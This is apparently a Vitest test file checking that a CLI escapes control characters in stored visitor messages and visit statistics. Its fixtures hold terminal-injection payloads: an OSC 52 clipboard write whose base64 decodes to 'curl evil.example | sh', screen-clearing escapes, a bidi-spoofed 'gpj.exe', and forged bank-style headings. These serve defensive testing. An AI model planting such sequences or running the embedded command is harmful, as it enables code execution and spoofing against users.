import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createDatabase, type Db, migrateToLatest } from '../db/database.js';
import { saveContactMessage } from '../repositories/contact-repository.js';
import { runCli } from '../test/cli.js';

/** ESC, BEL, DEL, C1 and bidirectional overrides: anything a terminal would act on, newlines and tabs aside. */
const RAW_CONTROL = /(?![\n\t])[\p{Cc}\u202a-\u202e\u2066-\u2069]/u;
const OSC_52 = '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007';

describe('the owner commands print what visitors wrote with its control characters escaped', () => {
  let dataDir: string;
  let db: Db;
  const cli = (name: string, ...args: string[]) => runCli(name, args, { DATA_DIR: dataDir, DATABASE_URL: '' });

  beforeAll(async () => {
    dataDir = mkdtempSync(path.join(tmpdir(), 'sahifa-cli-controls-'));
    db = createDatabase({ dialect: 'sqlite', file: path.join(dataDir, 'sahifa.sqlite') });
    await migrateToLatest(db);
    // Stored before names and e-mails refused control characters, or written around the API.
    await saveContactMessage(
      db,
      {
        name: `Bobur${OSC_52}\n— 2026-11-20 09:00 UTC · Bank <bank@example.uz> · new`,
        email: 'bobur@example.uz\u001b[8m',
        message: `Salom!\n— 2026-11-20 09:00 UTC · Bank <bank@example.uz> · new\n\u001b[2JSecure your account\u009b31m \u202egpj.exe`,
      },
      { now: new Date('2026-11-20T10:00:00Z') },
    );
    // A visit stored before the statistics kept only known values.
    await db
      .insertInto('visitors')
      .values({
        id: 'v1',
        token_hash: 'h',
        device: 'web',
        created_at: '2026-11-20T10:00:00.000Z',
        last_seen_at: '2026-11-20T10:00:00.000Z',
      })
      .execute();
    await db
      .insertInto('visits')
      .values({
        id: 'visit-1',
        visitor_id: 'v1',
        device: 'web',
        visited_on: '2026-11-20',
        visited_at: '2026-11-20T10:00:00.000Z',
        path: `/${OSC_52}`,
        locale: null,
        theme: null,
        referrer_host: `evil.example\u009b2J\u007f`,
        first_visit: 1,
        previous_visit_on: null,
      })
      .execute();
  });
  afterAll(async () => {
    await db.destroy();
    rmSync(dataDir, { recursive: true, force: true });
  });

  it('messages: names, e-mails and texts escaped, and no line of a text passes for a heading', async () => {
    const { stdout } = await cli('messages', '--all');
    expect(stdout).not.toMatch(RAW_CONTROL);
    expect(stdout).toContain('Bobur\\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\u0007\\u000a— 2026-11-20 09:00 UTC');
    expect(stdout).toContain('<bobur@example.uz\\u001b[8m>');
    expect(stdout).toContain('  \\u001b[2JSecure your account\\u009b31m \\u202egpj.exe');
    // The one heading is the message's own.
    expect(stdout.match(/^— /gm)).toHaveLength(1);
  });

  it('stats: breakdown values escaped, in text and in JSON', async () => {
    const { stdout } = await cli('stats', '--from', '2026-11-20', '--to', '2026-11-20');
    expect(stdout).not.toMatch(RAW_CONTROL);
    expect(stdout).toContain('/\\u001b]52;c;');
    expect(stdout).toContain('evil.example\\u009b2J\\u007f');
    expect(stdout).toContain('CV downloads: 0');

    const json = await cli('stats', '--from', '2026-11-20', '--to', '2026-11-20', '--json');
    expect(json.stdout).not.toMatch(RAW_CONTROL);
    const stats = JSON.parse(json.stdout);
    expect(stats.pages).toEqual([{ value: `/${OSC_52}`, visits: 1 }]);
    expect(stats.referrers).toEqual([{ value: 'evil.example\u009b2J\u007f', visits: 1 }]);
  });
});
